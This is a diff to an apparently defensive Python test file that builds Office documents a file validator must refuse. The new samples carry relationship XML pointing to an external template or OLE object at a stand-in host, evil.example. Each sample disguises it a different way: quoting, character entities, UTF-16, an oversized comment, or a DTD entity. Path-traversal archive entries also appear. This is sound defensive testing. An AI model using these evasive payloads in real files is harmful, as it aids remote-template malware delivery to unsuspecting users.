@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import os
 import struct
 import zipfile
 import zlib
@@ -78,6 +79,20 @@ _TEMPLATE = (
     b'<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
     b'attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
 )
+_KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+# The same in other spellings of XML.
+_TURNED = (
+    "<Relationships><Relationship TargetMode='External' Target='http://evil.example/x' "
+    f"Type='{_KIND}attachedTemplate'/></Relationships>"
+)
+_SPELT = (
+    f'<Relationships><Relationship Type="{_KIND}oleObjec&#116;" Target="http://evil.example/x" '
+    'TargetMode="&#69;xternal"/></Relationships>'
+)
+_WIDE = f'<?xml version="1.0" encoding="UTF-16"?>{_TURNED}'.encode("utf-16")
+_LATE = f"<Relationships><!--{'x' * 1_100_000}-->{_TURNED[15:]}"
+_DECLARED = '<!DOCTYPE a [<!ENTITY e "External">]><Relationships/>'
+_SETTINGS = "word/_rels/settings.xml.rels"
 Make = Callable[[], Any]
 # Name -> how it is made. All of these are refused.
 REFUSED: dict[str, Make] = {
@@ -137,6 +152,12 @@ REFUSED: dict[str, Make] = {
     "control.docx": lambda: office("docx", {"word/activeX/activeX1.bin": OLE}),
     "basic.odt": lambda: office("odt", {"Basic/Standard/Module1.xml": b"<x/>"}),
     "template.docx": lambda: office("docx", {"word/_rels/settings.xml.rels": _TEMPLATE}),
+    "turned.docx": lambda: office("docx", {_SETTINGS: _TURNED.encode()}),
+    "spelt.docx": lambda: office("docx", {_SETTINGS: _SPELT.encode()}),
+    "wide.docx": lambda: office("docx", {_SETTINGS: _WIDE}),
+    "late.docx": lambda: office("docx", {_SETTINGS: _LATE.encode(), "word/media/a.bin": os.urandom(20_000)}),
+    "declared.docx": lambda: office("docx", {_SETTINGS: _DECLARED.encode()}),
+    "spelt types.docx": lambda: office("docx", types=_MACRO_TYPE.replace("macroE", "macro&#69;")),
     "traversal.docx": lambda: office("docx", {"../../../etc/cron.d/x": b"x"}),
     "windows.docx": lambda: office("docx", {"..\\..\\windows\\x.dll": b"x"}),
     "old.doc": lambda: OLE,
